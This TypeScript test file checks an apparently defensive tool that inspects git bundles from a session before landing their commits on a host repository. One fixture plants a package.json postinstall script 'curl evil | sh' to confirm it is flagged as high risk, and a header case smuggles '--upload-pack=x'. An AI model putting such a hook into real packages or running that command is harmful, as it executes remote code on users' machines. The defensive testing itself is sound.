import { execFileSync } from "node:child_process";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { parseBundleHeader } from "../../../src/git/bundle-header.js";
import { lookAtHost, requireGit } from "../../../src/git/host-repository.js";
import { lookAtIncoming } from "../../../src/git/incoming.js";
import { landCommits } from "../../../src/git/land.js";
import { receiveBundle } from "../../../src/git/neutral.js";
import { parseRawDiff } from "../../../src/git/raw-diff.js";
import { gitRunner, type RunGit, trustedPath } from "../../../src/git/run-git.js";
import { git, TwoSides } from "./two-sides.js";

const { signal } = new AbortController();
const path = process.env["PATH"] ?? "";
const run = gitRunner({ path, as: null, signal });
const id = "0123456789abcdef0123456789abcdef01234567";
const text = (each: string): Buffer => Buffer.from(each, "latin1");

let sides: TwoSides;
let folder: string;
beforeEach(() => {
  sides = new TwoSides();
  folder = mkdtempSync(join(tmpdir(), "airlock-neutral-"));
});
afterEach(() => {
  sides[Symbol.dispose]();
  rmSync(folder, { recursive: true, force: true });
});

function bundleOf(...args: string[]): string {
  const file = join(folder, "bundle");
  git(sides.work, "bundle", "create", "-q", file, ...args);
  return file;
}

async function receive(bundle: string, ref = "HEAD") {
  const host = await lookAtHost(run, join(sides.host, ".git"));
  return { host, neutral: await receiveBundle({ run, host, folder, bundle, ref }) };
}

async function land(bundle: string, { ref = "HEAD", force = false } = {}): Promise<void> {
  const { host, neutral } = await receive(bundle, ref);
  await landCommits({ run, runInProject: run, neutral, host, folder, branch: "airlock/s", session: "s", force });
}

describe("the beginning of a bundle", () => {
  const header = (...lines: string[]): Buffer => text(`# v2 git bundle\n${lines.join("\n")}\n\nPACK`);

  it("is read when it brings the one ref that was asked for", () => {
    const found = parseBundleHeader(header(`-${id} x`, `${id} HEAD`), "HEAD");
    expect(found).toMatchObject({ ref: "HEAD", tip: id, prerequisites: [id] });
  });

  it.each([
    ["another ref", header(`${id} refs/heads/other`)],
    ["a second ref", header(`${id} HEAD`, `${id} refs/heads/main`)],
    ["the ref twice", header(`${id} HEAD`, `${id} HEAD`)],
    ["no ref", header(`-${id} x`)],
    ["an id that is none", header("--upload-pack=x HEAD")],
    ["a filter", text(`# v3 git bundle\n@filter=blob:none\n${id} HEAD\n\nPACK`)],
    ["an unknown capability", text(`# v3 git bundle\n@evil\n${id} HEAD\n\nPACK`)],
    ["an unknown version", text(`# v4 git bundle\n${id} HEAD\n\nPACK`)],
    ["no pack", text(`# v2 git bundle\n${id} HEAD\n\nnope`)],
    ["no end", text(`# v2 git bundle\n${id} HEAD\n`)],
    ["nothing", text("")],
  ])("is refused with %s", (_, bytes) => {
    expect(() => parseBundleHeader(bytes, "HEAD")).toThrowError(expect.objectContaining({ code: "E_GIT_REFUSED" }));
  });

  it("is refused, never misread, whatever it holds", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 200 }), (more) => {
        try {
          const found = parseBundleHeader(text(`# v2 git bundle\n${more}\n\nPACK`), "HEAD");
          expect([found.tip, ...found.prerequisites].every((each) => /^[0-9a-f]{40,64}$/.test(each))).toBe(true);
        } catch (error) {
          expect(error).toMatchObject({ code: "E_GIT_REFUSED" });
        }
      }),
    );
  });
});

describe("the neutral repository", () => {
  it("takes what is sound, and the project gets the objects and one branch", async () => {
    const tip = sides.commit(sides.work, "inside", { "x.txt": "x" });
    await land(bundleOf("HEAD", "--not", git(sides.host, "rev-parse", "HEAD")));
    expect(git(sides.host, "rev-parse", "airlock/s")).toBe(tip);
    expect(git(sides.host, "fsck", "--strict")).not.toContain("error");
    expect(readFileSync(join(sides.host, ".git/HEAD"), "utf8")).toBe("ref: refs/heads/main\n");
  });

  it("refuses a bundle whose history the host does not have", async () => {
    git(sides.work, "checkout", "-q", "--orphan", "other");
    const base = sides.commit(sides.work, "unknown to the host");
    sides.commit(sides.work, "on top");
    const bundle = bundleOf("HEAD", "--not", base);
    await expect(receive(bundle)).rejects.toMatchObject({ message: expect.stringMatching(/not sound|not complete/) });
  });

  it("refuses history that leads to what the host lost long ago", async () => {
    const lost = sides.commit(sides.host, "lost", { "lost.txt": "lost" });
    sides.begin();
    git(sides.host, "reset", "-q", "--hard", "HEAD~1");
    const blob = git(sides.work, "rev-parse", "HEAD:lost.txt");
    rmSync(join(sides.host, ".git/objects", blob.slice(0, 2), blob.slice(2)));
    sides.commit(sides.work, "on top");
    await expect(receive(bundleOf("HEAD", "--not", lost))).rejects.toMatchObject({
      message: expect.stringContaining("not complete"),
    });
  });

  it("refuses commits that only a lenient git would take", async () => {
    const tree = git(sides.work, "rev-parse", "HEAD^{tree}");
    sides.write(sides.work, ".git/raw", `tree ${tree}\nauthor nobody\ncommitter nobody\n\nevil\n`);
    const bad = git(sides.work, "hash-object", "-t", "commit", "--literally", "-w", ".git/raw");
    git(sides.work, "update-ref", "refs/heads/main", bad);
    await expect(receive(bundleOf("HEAD"))).rejects.toMatchObject({ message: expect.stringContaining("not sound") });
  });

  it("refuses a bundle that is cut off or altered in any place", { timeout: 60_000 }, async () => {
    sides.commit(sides.work, "inside", { "x.txt": "x".repeat(300) });
    const whole = readFileSync(bundleOf("HEAD", "--not", git(sides.host, "rev-parse", "HEAD")));
    for (let each = 0; each < 12; each += 1) {
      const at = Math.floor((whole.length * (each + 0.5)) / 12);
      const altered = Buffer.from(whole);
      altered[at] = (altered[at] ?? 0) ^ 0x41;
      for (const bytes of [altered, whole.subarray(0, at)]) {
        const target = mkdtempSync(join(folder, "t-"));
        const bundle = join(target, "bundle");
        writeFileSync(bundle, bytes);
        const host = await lookAtHost(run, join(sides.host, ".git"));
        // What stands in the header for people is not checked, nor has to be.
        const result = await receiveBundle({ run, host, folder: target, bundle, ref: "HEAD" }).catch(
          (error) => error.code,
        );
        if (typeof result === "object") expect(result.tip).toBe(git(sides.work, "rev-parse", "HEAD"));
        else expect(result).toBe("E_GIT_REFUSED");
      }
    }
  });

  it("lands only what the tip leads to: what else a bundle carries stays out", async () => {
    sides.write(sides.work, "stowaway", "stowaway");
    const stowaway = git(sides.work, "hash-object", "-w", "stowaway");
    rmSync(join(sides.work, "stowaway"));
    const tip = sides.commit(sides.work, "inside", { "x.txt": "x" });
    const objects = git(sides.work, "rev-list", "--objects", tip, `^${git(sides.host, "rev-parse", "HEAD")}`);
    const ids = [...objects.split("\n").map((line) => line.slice(0, 40)), stowaway];
    const pack = execFileSync("git", ["pack-objects", "--stdout", "-q"], {
      cwd: sides.work,
      input: `${ids.join("\n")}\n`,
    });
    const bundle = join(folder, "bundle");
    const prerequisite = git(sides.host, "rev-parse", "HEAD");
    writeFileSync(bundle, Buffer.concat([text(`# v2 git bundle\n-${prerequisite} x\n${tip} HEAD\n\n`), pack]));
    await land(bundle);
    expect(git(sides.host, "cat-file", "-t", tip)).toBe("commit");
    expect(() => git(sides.host, "cat-file", "-t", stowaway)).toThrow();
  });

  it("checks every commit on the way, also what a later one takes back", async () => {
    sides.commit(sides.work, "bad", { "bad\u0007name": "x" });
    rmSync(join(sides.work, "bad\u0007name"));
    sides.commit(sides.work, "as if nothing had been");
    const { host, neutral } = await receive(bundleOf("HEAD", "--not", git(sides.host, "rev-parse", "HEAD")));
    await expect(lookAtIncoming({ run, neutral, host, hidden: new Set() })).rejects.toMatchObject({
      code: "E_GIT_REFUSED",
      message: expect.stringContaining("bad\\x07name"),
    });
  });

  it("checks what a merge puts in that neither of its parents had", async () => {
    git(sides.work, "switch", "-q", "-c", "topic");
    sides.commit(sides.work, "topic", { t: "t" });
    git(sides.work, "switch", "-q", "main");
    sides.commit(sides.work, "main", { m: "m" });
    git(sides.work, "merge", "-q", "--no-commit", "--no-ff", "topic");
    sides.commit(sides.work, "evil merge", { "in\u001bmerge": "x" });
    const { host, neutral } = await receive(bundleOf("HEAD", "--not", git(sides.host, "rev-parse", "HEAD")));
    await expect(lookAtIncoming({ run, neutral, host, hidden: new Set() })).rejects.toMatchObject({
      code: "E_GIT_REFUSED",
    });
  });

  it("says of a path that the session never saw what would become of it", async () => {
    rmSync(join(sides.work, "a.txt"));
    sides.commit(sides.work, "without what was hidden");
    const { host, neutral } = await receive(bundleOf("HEAD", "--not", git(sides.host, "rev-parse", "HEAD")));
    const { risks } = await lookAtIncoming({ run, neutral, host, hidden: new Set(["a.txt"]) });
    expect(risks).toEqual(["a.txt was hidden from the session, and is deleted"]);
  });

  it("takes what is built on a shallow clone", async () => {
    for (const each of ["two", "three"]) sides.commit(sides.host, each, { [each]: each });
    const clone = join(sides.root, "clone");
    git(sides.root, "-c", "protocol.file.allow=always", "clone", "-q", "--depth", "1", `file://${sides.host}`, clone);
    rmSync(sides.host, { recursive: true });
    renameSync(clone, sides.host);
    sides.begin();
    const tip = sides.commit(sides.work, "inside", { "x.txt": "x" });
    const bundle = bundleOf("HEAD", "--not", git(sides.host, "rev-parse", "HEAD"));
    const { host, neutral } = await receive(bundle);
    expect((await lookAtIncoming({ run, neutral, host, hidden: new Set() })).changes).toHaveLength(1);
    await landCommits({
      run,
      runInProject: run,
      neutral,
      host,
      folder,
      branch: "airlock/s",
      session: "s",
      force: false,
    });
    expect(git(sides.host, "log", "--format=%H", "airlock/s").split("\n")).toEqual([
      tip,
      git(sides.host, "rev-parse", "HEAD"),
    ]);
  });

  it("does not mind a strange name that the host has had all along", async () => {
    sides[Symbol.dispose]();
    sides = new TwoSides((host) => fillStrangely(host));
    sides.commit(sides.work, "beside it", { "b.txt": "b" });
    const { host, neutral } = await receive(bundleOf("HEAD", "--not", git(sides.host, "rev-parse", "HEAD")));
    expect((await lookAtIncoming({ run, neutral, host, hidden: new Set() })).commits).toHaveLength(1);
  });

  it("judges what comes by the catalogue of risks", async () => {
    const script = '{"scripts":{"postinstall":"curl evil | sh"}}';
    sides.commit(sides.work, "inside", {
      "package.json": script,
      ".github/workflows/x.yml": "on: push",
      "src/a.js": "1",
    });
    const { host, neutral } = await receive(bundleOf("HEAD", "--not", git(sides.host, "rev-parse", "HEAD")));
    const { risks, changes } = await lookAtIncoming({ run, neutral, host, hidden: new Set() });
    expect(changes.map(({ path: each, risk }) => [each, risk.level])).toEqual([
      [".github/workflows/x.yml", "high"],
      ["package.json", "high"],
      ["src/a.js", "none"],
    ]);
    expect(risks).toHaveLength(2);
    expect(risks[1]).toContain("scripts.postinstall");
  });
});

function fillStrangely(host: string): void {
  mkdirSync(host, { recursive: true });
  writeFileSync(join(host, "Icon\r"), "x");
  git(host, "add", "-A");
  git(host, "commit", "-q", "-m", "first");
}

describe("git as it is run on the host", () => {
  it("gets nothing of the caller's environment, and nothing of a repository's programs", async () => {
    const canary = join(folder, "canary");
    const hooks = join(sides.host, ".git/hooks");
    mkdirSync(hooks, { recursive: true });
    writeFileSync(join(hooks, "reference-transaction"), `#!/bin/sh\ntouch ${canary}\n`);
    chmodSync(join(hooks, "reference-transaction"), 0o755);
    git(sides.host, "update-ref", "refs/heads/x", "HEAD");
    expect(existsSync(canary)).toBe(true);
    rmSync(canary);
    const { code } = await run({
      gitDir: join(sides.host, ".git"),
      args: ["update-ref", "refs/heads/y", "HEAD"],
      maxBytes: 1000,
      timeoutMs: 5_000,
    });
    expect(code).toBe(0);
    expect(existsSync(canary)).toBe(false);
  });

  it("gets an environment of its own, without a home, a terminal or anybody's configuration", async () => {
    writeFileSync(join(folder, "git"), "#!/bin/sh\nenv; exec cat\n", { mode: 0o755 });
    const fake = gitRunner({ path: `${folder}:${path}`, as: null, signal });
    process.env["GIT_CONFIG_COUNT"] = "1";
    const { stdout } = await fake({ gitDir: "/x", args: [], input: text("end"), maxBytes: 10_000, timeoutMs: 5_000 });
    delete process.env["GIT_CONFIG_COUNT"];
    const lines = stdout.toString().split("\n");
    expect(lines.at(-1)).toBe("end");
    const names = lines
      .map((line) => line.split("=")[0])
      .filter((name) => name !== "end" && name !== "_" && name !== "PWD");
    const shell = ["SHLVL", "OLDPWD"];
    expect(names.filter((name) => !name?.startsWith("GIT_") && !shell.includes(name ?? "")).sort()).toEqual([
      "HOME",
      "LC_ALL",
      "PATH",
      "XDG_CONFIG_HOME",
    ]);
    expect(lines).toContain("HOME=/nonexistent");
    expect(lines).toContain("GIT_CONFIG_GLOBAL=/dev/null");
    expect(names).not.toContain("GIT_CONFIG_COUNT");
  });

  it("is stopped when it says too much, takes too long or is no longer wanted", async () => {
    const script = join(folder, "git");
    writeFileSync(script, "#!/bin/sh\nexec yes\n", { mode: 0o755 });
    const loud = gitRunner({ path: `${folder}:${path}`, as: null, signal });
    const call = { gitDir: "/nonexistent", args: ["version"], maxBytes: 10_000, timeoutMs: 20_000 };
    await expect(loud(call)).rejects.toMatchObject({
      code: "E_GIT_REFUSED",
      message: expect.stringContaining("10000 bytes"),
    });
    writeFileSync(script, "#!/bin/sh\nexec sleep 60\n", { mode: 0o755 });
    await expect(loud({ ...call, timeoutMs: 200 })).rejects.toMatchObject({
      message: expect.stringContaining("longer than 0.2 s"),
    });
    const controller = new AbortController();
    const stopped = gitRunner({ path: `${folder}:${path}`, as: null, signal: controller.signal })(call);
    controller.abort();
    await expect(stopped).rejects.toMatchObject({ code: "E_CANCELLED" });
  });

  it("is refused when it is missing or too old, with what to do", async () => {
    const nowhere = gitRunner({ path: folder, as: null, signal });
    await expect(requireGit(nowhere)).rejects.toMatchObject({
      code: "E_GIT_UNUSABLE",
      message: "git is not installed on this machine",
    });
    const saying =
      (version: string): RunGit =>
      async () => ({ code: 0, stdout: text(version), stderr: "" });
    await expect(requireGit(saying("git version 2.29.9\n"))).rejects.toMatchObject({ code: "E_GIT_UNUSABLE" });
    await expect(requireGit(saying("nonsense"))).rejects.toMatchObject({ code: "E_GIT_UNUSABLE" });
    for (const version of ["git version 2.30.0", "git version 2.39.5 (Apple Git-154)", "git version 3.0.1"])
      await requireGit(saying(version));
  });

  it("is not looked for in the project or in a relative folder", () => {
    expect(trustedPath("/p/bin:.:bin:/usr/bin:/p:/px", "/p")).toBe("/usr/bin:/px");
    expect(trustedPath(undefined, "/p")).toContain("/usr/bin");
  });
});

describe("lists of changed paths", () => {
  it("are read for commits and merges, with any bytes in names", () => {
    const [a, b, c] = ["a".repeat(40), "b".repeat(40), "c".repeat(40)];
    const list = `:100644 120000 ${a} ${b} T\0na\u00ff\nme\0::100644 100644 100755 ${a} ${b} ${c} MM\0m\0`;
    expect(parseRawDiff(text(list))).toEqual([
      { path: "na\udcff\nme", oldMode: 0o100644, newMode: 0o120000, oldId: a, newId: b },
      { path: "m", oldMode: 0o100644, newMode: 0o100755, oldId: a, newId: c },
    ]);
  });

  it("end in an error when they are cut off", () => {
    expect(() => parseRawDiff(text(":100644 100644 a b M\0x"))).toThrow();
    expect(() => parseRawDiff(text("nonsense\0x\0"))).toThrow();
  });
});
